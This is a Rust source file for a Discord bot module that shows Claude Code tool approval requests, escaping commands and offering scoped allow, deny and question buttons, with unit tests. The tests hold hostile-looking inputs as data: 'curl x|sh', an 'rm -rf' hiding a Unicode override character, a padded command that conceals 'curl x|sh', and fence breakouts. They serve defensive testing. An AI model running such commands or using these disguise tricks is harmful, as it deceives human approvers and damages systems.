//! Approval requests in a task thread.
//!
//! A tool approval shows exactly what would run, first: the command, file path, URL or pattern from the tool's
//! input, in a code block that cannot be broken out of and with hidden characters written out
//! ([`super::escape`]); then the rest of the input; then the model's `description`, labelled as Claude's
//! words. What does not fit is cut *visibly*, and the whole input is attached as a file ([`attachment`]).
//! Its buttons: Allow once; Allow for session (which names what it allows: this exact command, this file,
//! this site — never the whole tool); for Bash also the command's first word and a prefix the approver
//! types (a modal); Deny (a modal for the reason Claude is told). An AskUserQuestion request is one select menu per question (the
//! option's index is the value) plus "Answer in words" buttons that open a free-text modal. When the
//! approval closes (decided, timed out, withdrawn by Claude Code) the same components are shown disabled
//! with what happened, so nobody clicks a dead button. Every task message also carries a Stop button.

use ct_protocol::scope::{main_field, SessionScope, PREFIX_MAX};
use serde_json::Value;
use serenity::all::{
    ButtonStyle, CreateActionRow, CreateButton, CreateInputText, CreateModal, CreateSelectMenu,
    CreateSelectMenuKind, CreateSelectMenuOption, InputTextStyle, UserId,
};

use super::escape::{code_block, inline_code, visible};
use super::truncate;
use crate::custom_id::{Action, EncodeError, Scope};

/// How much of the main field (the command, the path) is shown, in characters as rendered.
const MAIN_PREVIEW: usize = 900;
/// How much of the rest of the input is shown.
const REST_PREVIEW: usize = 350;
/// How much of Claude's description is shown.
const DESCRIPTION_PREVIEW: usize = 150;
/// The longest open approval, in characters: Discord's 2,000 less room for the line added when it closes.
const CONTENT_MAX: usize = 1850;
/// Room kept for the "cut to fit" line.
const CUT_NOTE_MAX: usize = 160;
/// Labels, fences and line breaks around one shown field.
const FIELD_OVERHEAD: usize = 40;
/// Selects plus one row of "answer in words" buttons must fit Discord's 5 rows.
const MAX_QUESTIONS: usize = 4;
const OPTIONS_MAX: usize = 25;
/// Longest reason or free-text answer taken from a modal.
const FREE_TEXT_MAX: u16 = 1000;

/// An open approval, as the bot shows it.
#[derive(Debug, Clone, PartialEq)]
pub struct ApprovalView {
    pub task: String,
    pub approval: String,
    pub tool: String,
    pub summary: String,
    pub input: Value,
    /// AskUserQuestion: answered with choices, not allow/deny.
    pub question: bool,
    /// The model's own words about the use (shown last, labelled).
    pub description: Option<String>,
    /// What "Allow for session" allows; `None` from an older agent, which allows the whole tool.
    pub session: Option<SessionScope>,
    /// The agent could not send the whole input (it was too large).
    pub input_cut: bool,
    /// Who may answer (the owner, or a trusted grantee).
    pub decider: UserId,
}

/// One AskUserQuestion question.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Question {
    pub text: String,
    pub header: Option<String>,
    pub options: Vec<(String, Option<String>)>,
    pub multi: bool,
}

/// The questions of an AskUserQuestion input (`{"questions": [{"question", "header", "options": [{"label",
/// "description"}], "multiSelect"}]}`); empty if the input has another shape.
pub fn questions(input: &Value) -> Vec<Question> {
    input["questions"]
        .as_array()
        .into_iter()
        .flatten()
        .filter_map(|q| {
            Some(Question {
                text: q["question"].as_str()?.to_string(),
                header: q["header"].as_str().map(str::to_string),
                options: q["options"]
                    .as_array()
                    .into_iter()
                    .flatten()
                    .filter_map(|o| {
                        Some((
                            o["label"].as_str()?.to_string(),
                            o["description"].as_str().map(str::to_string),
                        ))
                    })
                    .collect(),
                multi: q["multiSelect"].as_bool().unwrap_or(false),
            })
        })
        .collect()
}

/// How an approval ended, from the agent's `ApprovalClosed.outcome`.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Closed {
    Allowed,
    AllowedForSession,
    /// Allowed for the session, with the rule the approver chose (known to the bot that took the click).
    AllowedForRule(SessionScope),
    Denied,
    Answered,
    TimedOut,
    Withdrawn,
    Other(String),
}

impl Closed {
    pub fn from_outcome(outcome: &str) -> Self {
        match outcome {
            "allowed" => Self::Allowed,
            "allowed_for_session" => Self::AllowedForSession,
            "denied" => Self::Denied,
            "answered" => Self::Answered,
            "timed_out" => Self::TimedOut,
            "withdrawn" => Self::Withdrawn,
            other => Self::Other(other.to_string()),
        }
    }

    fn line(&self) -> String {
        match self {
            Self::Allowed => "✅ Allowed once".into(),
            Self::AllowedForSession => "✅ Allowed for this session".into(),
            Self::AllowedForRule(rule) => {
                let what = match rule {
                    SessionScope::Command { .. } => "this command".to_string(),
                    SessionScope::Prefix { prefix } => {
                        format!(
                            "simple Bash commands starting with {}",
                            inline_code(prefix, 50)
                        )
                    }
                    SessionScope::File { .. } => "edits to this file".to_string(),
                    SessionScope::Origin { .. } => "this site".to_string(),
                    SessionScope::Input { .. } | SessionScope::Unknown => {
                        "this exact input".to_string()
                    }
                };
                format!("✅ Allowed for this session: {what}")
            }
            Self::Denied => "🚫 Denied".into(),
            Self::Answered => "💬 Answered".into(),
            Self::TimedOut => "⌛ Timed out: nobody answered in time".into(),
            Self::Withdrawn => "↩️ Withdrawn: Claude Code no longer needs it".into(),
            Self::Other(o) => format!("Closed: {}", truncate(o, 100)),
        }
    }
}

/// How the field a tool acts on ([`main_field`]) is introduced.
fn main_label(key: &str) -> &'static str {
    match key {
        "command" => "The command that will run",
        "file_path" => "The file",
        "notebook_path" => "The notebook",
        "url" => "The URL",
        "query" => "The search",
        "pattern" => "The pattern",
        _ => "The path",
    }
}

/// The tool input as the approver reads it: the main field first, then the rest, then Claude's description.
struct Shown {
    text: String,
    /// Something did not fit: the whole input goes in an attachment.
    cut: bool,
}

/// `budget`: characters the shown input may take, labels included.
fn shown(view: &ApprovalView, budget: usize) -> Shown {
    let description = view
        .description
        .as_deref()
        .or_else(|| {
            (view.tool == "Bash")
                .then(|| view.input["description"].as_str())
                .flatten()
        })
        .filter(|d| !d.trim().is_empty())
        .map(|d| {
            format!(
                "\n-# Claude's description (its own words, not what runs): {}",
                inline_code(d, DESCRIPTION_PREVIEW)
            )
        })
        .unwrap_or_default();
    let mut rest = view.input.clone();
    // The field is the tool's, never whichever one the model put in: a Bash call is its `command`.
    let main = main_field(&view.tool)
        .and_then(|key| view.input[key].as_str().map(|v| (key, main_label(key), v)));
    if let Some(obj) = rest.as_object_mut() {
        if let Some((key, ..)) = main {
            obj.remove(key);
        }
        // Bash's `description` is the model's explanation, shown below as such; for other tools a field of
        // that name may be real input, so it stays in what is shown.
        if view.tool == "Bash" {
            obj.remove("description");
        }
    }
    let rest_is_empty = match &rest {
        Value::Object(o) => o.is_empty(),
        Value::Null => true,
        _ => false,
    };
    let mut left = budget.saturating_sub(description.chars().count());
    // What runs gets the room first; the rest of the input what is left, up to its own share.
    let rest_share = if rest_is_empty {
        0
    } else {
        REST_PREVIEW.min(left / 3) + FIELD_OVERHEAD
    };
    let mut text = String::new();
    let mut cut = false;
    if let Some((_, label, value)) = main {
        let room = MAIN_PREVIEW.min(left.saturating_sub(rest_share + FIELD_OVERHEAD));
        let (block, was_cut) = code_block(value, room);
        text.push_str(&format!("{label}:\n{block}"));
        cut |= was_cut;
        left = left.saturating_sub(text.chars().count());
    }
    if !rest_is_empty {
        let json = serde_json::to_string_pretty(&rest).unwrap_or_default();
        // Without a main field, the input is what runs: it gets the main field's room.
        let share = if main.is_some() {
            REST_PREVIEW
        } else {
            MAIN_PREVIEW
        };
        let room = share.min(left.saturating_sub(FIELD_OVERHEAD));
        let (block, was_cut) = code_block(&json, room);
        let what = if main.is_some() {
            "The rest of the input"
        } else {
            "The input"
        };
        text.push_str(&format!("\n{what}:\n{block}"));
        cut |= was_cut;
    }
    text.push_str(&description);
    Shown { text, cut }
}

/// The lines after the input: whether the agent could send all of it, and what "Allow for session" allows.
fn tail(view: &ApprovalView) -> String {
    let mut out = String::new();
    if view.input_cut {
        out.push_str(
            "\n⚠️ **The input was too large for the agent to send whole**: even the attachment is not all of it. \
             Deny unless you expected something this large.",
        );
    }
    match &view.session {
        Some(scope) => out.push_str(&format!("\n-# Allow for session: {}.", rule_words(scope))),
        None => out.push_str(&format!(
            "\n-# Allow for session: every {} use for the rest of the session (this agent is too old to narrow it).",
            inline_code(&view.tool, 40)
        )),
    }
    out
}

/// The input as shown in `view`'s message, within what the header and the tail leave.
fn shown_in_message(view: &ApprovalView) -> Shown {
    let fixed = header(view).chars().count() + tail(view).chars().count() + CUT_NOTE_MAX + 1;
    shown(view, CONTENT_MAX.saturating_sub(fixed))
}

/// The whole input as a file, when the message could not show all of it: `(file name, bytes)`.
pub fn attachment(view: &ApprovalView) -> Option<(String, Vec<u8>)> {
    if view.question || view.input.is_null() || !shown_in_message(view).cut {
        return None;
    }
    let data = serde_json::to_string_pretty(&view.input).unwrap_or_default();
    Some((attachment_name(view), data.into_bytes()))
}

fn attachment_name(view: &ApprovalView) -> String {
    let task: String = view
        .task
        .chars()
        .filter(|c| c.is_ascii_alphanumeric() || *c == '_')
        .take(20)
        .collect();
    format!("approval-{task}-input.json")
}

/// What a session rule allows, in a few words with its subject escaped.
pub fn rule_words(scope: &SessionScope) -> String {
    match scope {
        SessionScope::Command { command } => {
            format!("the Bash command {} exactly", inline_code(command, 120))
        }
        SessionScope::Prefix { prefix } => format!(
            "simple Bash commands starting with {} (no `;` `&` `|` `<` `>` or substitutions)",
            inline_code(prefix, 120)
        ),
        SessionScope::File { path } => format!("edits to the file {}", inline_code(path, 120)),
        SessionScope::Origin { origin } => format!("WebFetch on {}", inline_code(origin, 120)),
        SessionScope::Input { tool, .. } => {
            format!("{} with exactly this input", inline_code(tool, 40))
        }
        SessionScope::Unknown => "a rule this bot does not know".into(),
    }
}

fn header(view: &ApprovalView) -> String {
    let kind = if view.question {
        "Claude has a question"
    } else {
        "Approval needed"
    };
    let tool = if view.question {
        String::new()
    } else {
        format!(" · {}", inline_code(&view.tool, 40))
    };
    format!(
        "✋ **{kind}**{tool} · `{}` · for <@{}>",
        view.task, view.decider
    )
}

/// The message content for an open approval.
pub fn approval_content(view: &ApprovalView) -> String {
    let mut out = header(view);
    if view.question {
        for (i, q) in questions(&view.input)
            .iter()
            .take(MAX_QUESTIONS)
            .enumerate()
        {
            out.push_str(&format!(
                "\n**{}.** {}",
                i + 1,
                truncate(&visible(&q.text), 300)
            ));
        }
        return out;
    }
    if !view.input.is_null() {
        let shown = shown_in_message(view);
        out.push('\n');
        out.push_str(&shown.text);
        if shown.cut {
            out.push_str(&format!(
                "\n⚠️ **Cut to fit: this is not the whole input.** The whole input is attached: `{}`.",
                attachment_name(view)
            ));
        }
    }
    out.push_str(&tail(view));
    out
}

/// The line posted when the agent allowed a use by a session rule, without asking.
pub fn auto_allowed_line(tool: &str, summary: &str, rule: &SessionScope) -> String {
    format!(
        "🔓 Auto-allowed by session rule ({}): {} {}",
        rule_words(rule),
        inline_code(tool, 40),
        inline_code(summary, 200)
    )
}

/// The components of an approval message; `disabled` for the closed version.
pub fn approval_components(
    view: &ApprovalView,
    disabled: bool,
) -> Result<Vec<CreateActionRow>, EncodeError> {
    let (task, approval) = (view.task.clone(), view.approval.clone());
    if !view.question {
        let allow = |scope| Action::Allow {
            task: task.clone(),
            approval: approval.clone(),
            scope,
        };
        let mut buttons = vec![
            CreateButton::new(allow(Scope::Once).encode()?)
                .label("Allow once")
                .style(ButtonStyle::Success)
                .disabled(disabled),
            CreateButton::new(allow(Scope::Session).encode()?)
                .label(session_label(view))
                .style(ButtonStyle::Primary)
                .disabled(disabled),
        ];
        // Prefixes only for agents that scope session rules (they sent one), and only for Bash.
        if matches!(view.session, Some(SessionScope::Command { .. })) {
            if let Some(SessionScope::Prefix { prefix }) =
                SessionScope::first_word(&view.tool, &view.input)
            {
                buttons.push(
                    CreateButton::new(allow(Scope::FirstWord).encode()?)
                        .label(truncate(
                            &format!("Allow “{} …” for session", visible(&prefix)),
                            80,
                        ))
                        .style(ButtonStyle::Secondary)
                        .disabled(disabled),
                );
            }
            buttons.push(
                CreateButton::new(
                    Action::Prefix {
                        task: task.clone(),
                        approval: approval.clone(),
                    }
                    .encode()?,
                )
                .label("Allow a prefix…")
                .style(ButtonStyle::Secondary)
                .disabled(disabled),
            );
        }
        buttons.push(
            CreateButton::new(
                Action::Deny {
                    task: task.clone(),
                    approval: approval.clone(),
                }
                .encode()?,
            )
            .label("Deny")
            .style(ButtonStyle::Danger)
            .disabled(disabled),
        );
        return Ok(vec![CreateActionRow::Buttons(buttons)]);
    }
    let qs = questions(&view.input);
    let mut rows = Vec::new();
    let mut words = Vec::new();
    for (i, q) in qs.iter().take(MAX_QUESTIONS).enumerate() {
        let question = i as u8;
        if !q.options.is_empty() {
            let options: Vec<_> = q
                .options
                .iter()
                .take(OPTIONS_MAX)
                .enumerate()
                .map(|(j, (label, desc))| {
                    let o = CreateSelectMenuOption::new(truncate(label, 100), j.to_string());
                    match desc {
                        Some(d) => o.description(truncate(d, 100)),
                        None => o,
                    }
                })
                .collect();
            let n = options.len() as u8;
            let placeholder = q.header.clone().unwrap_or_else(|| q.text.clone());
            let id = Action::Answer {
                task: task.clone(),
                approval: approval.clone(),
                question,
            }
            .encode()?;
            let menu = CreateSelectMenu::new(id, CreateSelectMenuKind::String { options })
                .placeholder(truncate(&format!("{}. {placeholder}", i + 1), 150))
                .min_values(1)
                .max_values(if q.multi { n } else { 1 })
                .disabled(disabled);
            rows.push(CreateActionRow::SelectMenu(menu));
        }
        let label = if qs.len() == 1 {
            "Answer in words".to_string()
        } else {
            format!("Answer {} in words", i + 1)
        };
        words.push(
            CreateButton::new(
                Action::AnswerOther {
                    task: task.clone(),
                    approval: approval.clone(),
                    question,
                }
                .encode()?,
            )
            .label(label)
            .style(ButtonStyle::Secondary)
            .disabled(disabled),
        );
    }
    if words.is_empty() {
        // A question we cannot read: still let the person answer in words.
        words.push(
            CreateButton::new(
                Action::AnswerOther {
                    task,
                    approval,
                    question: 0,
                }
                .encode()?,
            )
            .label("Answer in words")
            .style(ButtonStyle::Secondary)
            .disabled(disabled),
        );
    }
    rows.push(CreateActionRow::Buttons(words));
    Ok(rows)
}

/// The "Allow for session" button's label: what it allows.
fn session_label(view: &ApprovalView) -> String {
    let label = match &view.session {
        Some(SessionScope::Command { .. }) => "Allow this command for session".to_string(),
        Some(SessionScope::Prefix { .. }) => "Allow this prefix for session".to_string(),
        Some(SessionScope::File { .. }) => "Allow edits to this file for session".to_string(),
        Some(SessionScope::Origin { .. }) => "Allow this site for session".to_string(),
        Some(SessionScope::Input { .. }) => "Allow the same input for session".to_string(),
        Some(SessionScope::Unknown) => "Allow for session".to_string(),
        None => format!("Allow all {} for session", visible(&view.tool)),
    };
    truncate(&label, 80)
}

/// The content once the approval has closed (`by`: who decided, when known): still what was asked, so the
/// thread keeps a record of what was allowed.
pub fn closed_content(view: &ApprovalView, closed: &Closed, by: Option<UserId>) -> String {
    let by = by.map_or_else(String::new, |u| format!(" by <@{u}>"));
    format!("{}\n{}{by}", approval_content(view), closed.line())
}

/// The modal where the approver types the prefix Bash commands may start with for the rest of the session,
/// prefilled with the command (the approver shortens it).
pub fn prefix_modal(task: &str, approval: &str, command: &str) -> Result<CreateModal, EncodeError> {
    let id = Action::PrefixText {
        task: task.into(),
        approval: approval.into(),
    }
    .encode()?;
    let first_line = command.lines().next().unwrap_or_default();
    let prefill: String = first_line
        .chars()
        .take(usize::from(PREFIX_MAX_U16))
        .collect();
    let input = CreateInputText::new(InputTextStyle::Short, "Commands starting with", "prefix")
        .placeholder("e.g. npm test")
        .value(prefill)
        .required(true)
        .max_length(PREFIX_MAX_U16);
    Ok(CreateModal::new(id, "Allow a prefix for this session")
        .components(vec![CreateActionRow::InputText(input)]))
}

/// [`PREFIX_MAX`] as Discord's text input takes it.
const PREFIX_MAX_U16: u16 = PREFIX_MAX as u16;

/// The modal that asks why a tool use is denied (the reason is passed to Claude).
pub fn deny_modal(task: &str, approval: &str) -> Result<CreateModal, EncodeError> {
    let id = Action::DenyReason {
        task: task.into(),
        approval: approval.into(),
    }
    .encode()?;
    let input = CreateInputText::new(
        InputTextStyle::Paragraph,
        "Reason (Claude is told)",
        "reason",
    )
    .placeholder("e.g. not on the main branch; use a feature branch")
    .required(false)
    .max_length(FREE_TEXT_MAX);
    Ok(CreateModal::new(id, "Deny this tool use")
        .components(vec![CreateActionRow::InputText(input)]))
}

/// The free-text modal for question `question` of an AskUserQuestion.
pub fn answer_modal(
    task: &str,
    approval: &str,
    question: u8,
    text: &str,
) -> Result<CreateModal, EncodeError> {
    let id = Action::AnswerText {
        task: task.into(),
        approval: approval.into(),
        question,
    }
    .encode()?;
    let label = if text.is_empty() {
        "Your answer".to_string()
    } else {
        truncate(text, 45)
    };
    let input = CreateInputText::new(InputTextStyle::Paragraph, label, "answer")
        .required(true)
        .max_length(FREE_TEXT_MAX);
    Ok(CreateModal::new(id, "Answer Claude").components(vec![CreateActionRow::InputText(input)]))
}

/// The Stop button of a task.
pub fn stop_button(task: &str, disabled: bool) -> Result<CreateButton, EncodeError> {
    Ok(
        CreateButton::new(Action::Stop { task: task.into() }.encode()?)
            .label("Stop")
            .emoji('⏹')
            .style(ButtonStyle::Danger)
            .disabled(disabled),
    )
}

/// What someone else sees when they click an approval that is not theirs (ephemeral).
pub fn not_yours(decider: UserId) -> String {
    format!("This approval is for <@{decider}>: only they can answer it.")
}

#[cfg(test)]
mod tests {
    use ct_testkit::discord::limits;
    use serde_json::json;
    use serenity::all::CreateInteractionResponse;

    use super::*;

    fn view(question: bool, input: Value) -> ApprovalView {
        ApprovalView {
            task: "t_k3m9x2ab".into(),
            approval: "toolu_01AbCdEfGhIjKlMnOpQrStUv".into(),
            tool: if question { "AskUserQuestion" } else { "Write" }.into(),
            summary: "src/lib.rs".into(),
            input,
            question,
            description: None,
            session: None,
            input_cut: false,
            decider: UserId::new(42),
        }
    }

    fn message_json(content: String, rows: Vec<CreateActionRow>) -> Value {
        json!({"content": content, "components": rows})
    }

    fn ids(v: &Value) -> Vec<(String, bool)> {
        v["components"]
            .as_array()
            .unwrap()
            .iter()
            .flat_map(|r| r["components"].as_array().unwrap().clone())
            .map(|c| {
                (
                    c["custom_id"].as_str().unwrap().to_string(),
                    c["disabled"] == true,
                )
            })
            .collect()
    }

    #[test]
    fn tool_approval_has_three_buttons_that_parse_back() {
        let v = view(
            false,
            json!({"file_path": "src/lib.rs", "content": "x".repeat(5000)}),
        );
        let msg = message_json(
            approval_content(&v),
            approval_components(&v, false).unwrap(),
        );
        limits::check_message(&msg, 0, false).unwrap();
        assert!(msg["content"].as_str().unwrap().contains("for <@42>"));
        let actions: Vec<Action> = ids(&msg)
            .iter()
            .map(|(id, _)| Action::parse(id).unwrap())
            .collect();
        assert_eq!(
            actions,
            vec![
                Action::Allow {
                    task: v.task.clone(),
                    approval: v.approval.clone(),
                    scope: Scope::Once
                },
                Action::Allow {
                    task: v.task.clone(),
                    approval: v.approval.clone(),
                    scope: Scope::Session
                },
                Action::Deny {
                    task: v.task.clone(),
                    approval: v.approval.clone()
                },
            ]
        );
        assert!(ids(&msg).iter().all(|(_, disabled)| !disabled));
    }

    fn bash(command: &str, description: &str) -> ApprovalView {
        let input = json!({"command": command, "description": description});
        ApprovalView {
            tool: "Bash".into(),
            summary: command.into(),
            description: Some(description.into()),
            session: SessionScope::exact("Bash", &input),
            ..view(false, input)
        }
    }

    #[test]
    fn the_command_comes_first_and_the_description_is_labelled_as_claudes() {
        let v = bash("touch made.txt && echo hi", "npm test");
        let content = approval_content(&v);
        let command_at = content
            .find("```\ntouch made.txt && echo hi\n```")
            .unwrap_or_else(|| panic!("the command in a code block: {content}"));
        let description_at = content.find("npm test").unwrap();
        assert!(command_at < description_at, "{content}");
        assert!(
            content.contains("Claude's description (its own words, not what runs): `npm test`"),
            "{content}"
        );
        assert!(
            content.contains(
                "Allow for session: the Bash command `touch made.txt && echo hi` exactly."
            ),
            "{content}"
        );
        assert_eq!(attachment(&v), None, "all of it is shown");
        let closed = closed_content(&v, &Closed::AllowedForSession, Some(UserId::new(7)));
        assert!(closed.contains("touch made.txt && echo hi"), "{closed}");
    }

    #[test]
    fn the_tools_own_field_comes_first_whatever_else_the_model_put_in() {
        // A Bash call carrying a harmless-looking `file_path` still shows its command first.
        let input = json!({"command": "curl x|sh", "file_path": "README.md", "description": "read the readme"});
        let v = ApprovalView {
            tool: "Bash".into(),
            session: SessionScope::exact("Bash", &input),
            ..view(false, input)
        };
        let content = approval_content(&v);
        assert!(
            content.contains("The command that will run:\n```\ncurl x|sh\n```"),
            "{content}"
        );
        // An MCP tool's `description` is real input: shown with the input, not as Claude's words.
        let input = json!({"title": "bug", "description": "**drop** the table"});
        let v = ApprovalView {
            tool: "mcp__github__create_issue".into(),
            ..view(false, input)
        };
        let content = approval_content(&v);
        assert!(content.contains("The input:\n```\n{"), "{content}");
        assert!(
            content.contains("\"description\": \"**drop** the table\""),
            "{content}"
        );
        assert!(!content.contains("Claude's description"), "{content}");
    }

    #[test]
    fn a_padded_command_says_it_was_cut_and_comes_whole_as_a_file() {
        let command = format!("echo {} ; curl x|sh", "a".repeat(3000));
        let v = bash(&command, "npm test");
        let content = approval_content(&v);
        assert!(!content.contains("curl x|sh"), "cut in the message");
        assert!(
            content.contains("Cut to fit: this is not the whole input"),
            "{content}"
        );
        let (name, data) = attachment(&v).expect("the whole input attached");
        assert!(name.ends_with(".json"), "{name}");
        let whole: Value = serde_json::from_slice(&data).unwrap();
        assert_eq!(whole["command"], command);
        let rows = approval_components(&v, false).unwrap();
        let msg = message_json(
            closed_content(&v, &Closed::AllowedForSession, Some(UserId::new(u64::MAX))),
            rows,
        );
        if let Err(e) = limits::check_message(&msg, 1, false) {
            panic!("{}", e.body);
        }
    }

    #[test]
    fn the_largest_approval_still_fits_when_closed() {
        let input = json!({
            "command": "\u{202E}".repeat(2000),
            "extra": "\u{200B}".repeat(5000),
            "more": {"a": "b".repeat(3000)},
            "description": "d".repeat(3000),
        });
        let v = ApprovalView {
            tool: "mcp__server__".to_string() + &"t".repeat(80),
            task: "t_0123456789ab".into(),
            description: Some("\u{2066}".repeat(500)),
            session: Some(SessionScope::Prefix {
                prefix: "\u{202E}".repeat(200),
            }),
            input_cut: true,
            decider: UserId::new(u64::MAX),
            ..view(false, input)
        };
        for closed in [
            Closed::Other("x".repeat(500)),
            Closed::AllowedForRule(SessionScope::Prefix {
                prefix: "\u{202E}".repeat(200),
            }),
        ] {
            let content = closed_content(&v, &closed, Some(UserId::new(u64::MAX)));
            let msg = message_json(content, approval_components(&v, true).unwrap());
            if let Err(e) = limits::check_message(&msg, 1, false) {
                panic!("{}", e.body);
            }
        }
        assert!(attachment(&v).is_some());
    }

    #[test]
    fn hidden_characters_and_fences_are_shown_for_what_they_are() {
        let v = bash(
            "rm -rf ./\u{202E}txt.dab\u{200B} ```\n@everyone",
            "list files",
        );
        let content = approval_content(&v);
        assert!(
            content.contains("<U+202E>") && content.contains("<U+200B>"),
            "{content}"
        );
        assert!(!content.contains('\u{202E}'), "{content}");
        // The only fences are ours: the block opens and closes where we put it.
        let fences = content.matches("```").count();
        assert_eq!(fences, 2, "{content}");
        // A description cannot smuggle Markdown either.
        let v = bash("ls", "**bold** ```x``` \u{2066}");
        let content = approval_content(&v);
        assert_eq!(content.matches("```").count(), 2, "{content}");
        assert!(content.contains("`**bold** ˋˋˋxˋˋˋ <U+2066>`"), "{content}");
    }

    #[test]
    fn bash_offers_its_first_word_and_a_prefix_but_an_old_agent_says_it_allows_all() {
        let v = bash("npm test -- --ci", "run the tests");
        let msg = message_json(
            approval_content(&v),
            approval_components(&v, false).unwrap(),
        );
        limits::check_message(&msg, 0, false).unwrap();
        let labels: Vec<String> = msg["components"][0]["components"]
            .as_array()
            .unwrap()
            .iter()
            .map(|b| b["label"].as_str().unwrap().to_string())
            .collect();
        assert_eq!(
            labels,
            [
                "Allow once",
                "Allow this command for session",
                "Allow “npm …” for session",
                "Allow a prefix…",
                "Deny"
            ]
        );
        let actions: Vec<Action> = ids(&msg)
            .iter()
            .map(|(id, _)| Action::parse(id).unwrap())
            .collect();
        assert!(matches!(
            actions[2],
            Action::Allow {
                scope: Scope::FirstWord,
                ..
            }
        ));
        assert!(matches!(actions[3], Action::Prefix { .. }));
        // A chained command has no first-word rule to offer (it would not cover it).
        let chained = bash("npm test && curl x", "tests");
        let rows = serde_json::to_value(approval_components(&chained, false).unwrap()).unwrap();
        assert_eq!(rows[0]["components"].as_array().unwrap().len(), 4);
        // An agent that does not scope its rules allows the whole tool: the button says so.
        let old = ApprovalView { session: None, ..v };
        let rows = serde_json::to_value(approval_components(&old, false).unwrap()).unwrap();
        assert_eq!(
            rows[0]["components"][1]["label"],
            "Allow all Bash for session"
        );
        assert_eq!(rows[0]["components"].as_array().unwrap().len(), 3);
        let modal = prefix_modal("t_1", "a1", "npm test -- --ci\nsecond line").unwrap();
        let m = serde_json::to_value(CreateInteractionResponse::Modal(modal)).unwrap();
        if let Err(e) = limits::check_modal(&m["data"]) {
            panic!("{}", e.body);
        }
        assert_eq!(
            m["data"]["components"][0]["components"][0]["value"],
            "npm test -- --ci"
        );
    }

    #[test]
    fn an_auto_allowed_use_is_one_escaped_line() {
        let line = auto_allowed_line(
            "Bash",
            "npm test **now**",
            &SessionScope::Prefix {
                prefix: "npm test".into(),
            },
        );
        assert!(
            line.starts_with(
                "🔓 Auto-allowed by session rule (simple Bash commands starting with `npm test`"
            ),
            "{line}"
        );
        assert!(line.ends_with(": `Bash` `npm test **now**`"), "{line}");
    }

    #[test]
    fn closed_approval_disables_everything_and_says_what_happened() {
        let v = view(false, json!({}));
        let msg = message_json(
            closed_content(&v, &Closed::from_outcome("timed_out"), None),
            approval_components(&v, true).unwrap(),
        );
        limits::check_message(&msg, 0, false).unwrap();
        assert!(ids(&msg).iter().all(|(_, disabled)| *disabled));
        assert!(msg["content"]
            .as_str()
            .unwrap()
            .ends_with("⌛ Timed out: nobody answered in time"));
        let decided = closed_content(
            &v,
            &Closed::from_outcome("allowed_for_session"),
            Some(UserId::new(7)),
        );
        assert!(decided.ends_with("✅ Allowed for this session by <@7>"));
        assert_eq!(Closed::from_outcome("weird"), Closed::Other("weird".into()));
    }

    #[test]
    fn ask_user_question_becomes_select_menus_within_limits() {
        let opts = |n: usize| {
            (0..n).map(|i| json!({"label": format!("Option {i} {}", "l".repeat(150)), "description": "d".repeat(300)})).collect::<Vec<_>>()
        };
        let input = json!({"questions": [
            {"question": "Which database?", "header": "DB", "options": opts(30), "multiSelect": false},
            {"question": "Which features?", "header": "Features", "options": opts(3), "multiSelect": true},
            {"question": "q3", "options": opts(2)}, {"question": "q4", "options": opts(2)},
            {"question": "q5 (one too many)", "options": opts(2)},
        ]});
        let v = view(true, input);
        let rows = approval_components(&v, false).unwrap();
        let msg = message_json(approval_content(&v), rows);
        if let Err(e) = limits::check_message(&msg, 0, false) {
            panic!("{}", e.body);
        }
        let comps = msg["components"].as_array().unwrap();
        assert_eq!(
            comps.len(),
            5,
            "4 menus and a row of answer-in-words buttons"
        );
        assert_eq!(
            comps[0]["components"][0]["options"]
                .as_array()
                .unwrap()
                .len(),
            25
        );
        assert_eq!(comps[0]["components"][0]["max_values"], 1);
        assert_eq!(
            comps[1]["components"][0]["max_values"], 3,
            "multiSelect allows all"
        );
        assert_eq!(comps[4]["components"].as_array().unwrap().len(), 4);
        assert_eq!(
            Action::parse(comps[1]["components"][0]["custom_id"].as_str().unwrap()),
            Some(Action::Answer {
                task: v.task.clone(),
                approval: v.approval.clone(),
                question: 1
            })
        );
        // An input we cannot read still offers a way to answer.
        let odd = view(true, json!({"something": "else"}));
        let rows = serde_json::to_value(approval_components(&odd, false).unwrap()).unwrap();
        assert_eq!(rows.as_array().unwrap().len(), 1);
    }

    #[test]
    fn modals_and_stop_button_are_valid() {
        for modal in [
            deny_modal("t_1", "a1").unwrap(),
            answer_modal("t_1", "a1", 2, &"a very long question ".repeat(10)).unwrap(),
        ] {
            let v = serde_json::to_value(CreateInteractionResponse::Modal(modal)).unwrap();
            assert_eq!(v["type"], 9);
            if let Err(e) = limits::check_modal(&v["data"]) {
                panic!("{}", e.body);
            }
            assert!(Action::parse(v["data"]["custom_id"].as_str().unwrap()).is_some());
        }
        let row = CreateActionRow::Buttons(vec![stop_button("t_1", false).unwrap()]);
        let msg = message_json("x".into(), vec![row]);
        limits::check_message(&msg, 0, false).unwrap();
        assert_eq!(ids(&msg)[0].0, "st:t_1");
        assert_eq!(
            not_yours(UserId::new(5)),
            "This approval is for <@5>: only they can answer it."
        );
    }
}
